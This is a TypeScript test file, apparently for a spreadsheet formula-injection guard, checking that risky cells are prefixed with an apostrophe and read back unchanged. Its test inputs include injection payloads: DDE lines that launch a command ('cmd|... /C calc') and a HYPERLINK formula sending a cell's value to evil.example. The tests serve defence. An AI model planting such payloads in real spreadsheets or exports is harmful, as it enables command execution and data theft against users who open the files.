import fc from 'fast-check';
import { expect, test } from 'vitest';
import { guardCell, unguardCell } from './cell-guard.ts';

test.for([
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '=1+2";=1+2',
  `=1+2'" ;,=1+2`,
  '=cmd|" /C calc"!A0',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Klikk")',
  '  =1+1',
  '\u00a0=1+1',
  '"=1+1',
  `' "=1+1`,
  '-',
])('%j is written as text, and read back unchanged', (text) => {
  expect(guardCell(text)).toBe(`'${text}`);
  expect(unguardCell(guardCell(text))).toBe(text);
});

test.for([
  'Espresso',
  'Å-vaffel',
  '3-i-1 = best',
  'kari@kafe.no',
  "'90-tallet",
  "'Helt vanlig'",
  '"Sitat"',
  '45,50',
  '',
])('%j is written as it is', (text) => {
  expect(guardCell(text)).toBe(text);
  expect(unguardCell(text)).toBe(text);
});

test('apostrophes at the start of a text are retained', () => {
  const signs = fc.constantFrom("'", '"', ' ', '\t', '\r', '\n', '=', '+', '-', '@', '＝', '＠', 'a', ';');
  fc.assert(
    fc.property(fc.oneof(fc.string(), fc.string({ unit: signs })), (text) => {
      expect(unguardCell(guardCell(text))).toBe(text);
      expect(guardCell(text)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    }),
  );
});
